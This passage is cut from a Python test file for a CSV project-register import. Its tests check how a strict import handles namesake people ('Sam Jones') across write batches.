        ctx, HEADER + "Alpha,Sam Jones,Ward 1,Active\nBeta,Sam Jones,Ward 2,Active\n", strict=True
    )

    assert report.applied and report.problems == [] and report.created == 2
    assert count(sessions, Person) == 1


def test_strict_import_sees_two_new_namesakes_from_earlier_batches(ctx, sessions, monkeypatch):
    monkeypatch.setattr("handlers.projects.register_import.WRITE_BATCH", 1)

    report = load(
        ctx,
        HEADER
        + "Alpha,Sam Jones <sam.jones@nhs.net>,Ward 1,Active\n"
        + "Beta,Sam Jones <sam.jones2@nhs.net>,Ward 2,Active\n"
        + "Gamma,Sam Jones,Ward 3,Active\n",
        strict=True,
    )

    assert not report.applied and problem_lines(report) == [4]
    assert count(sessions, Project) == 0
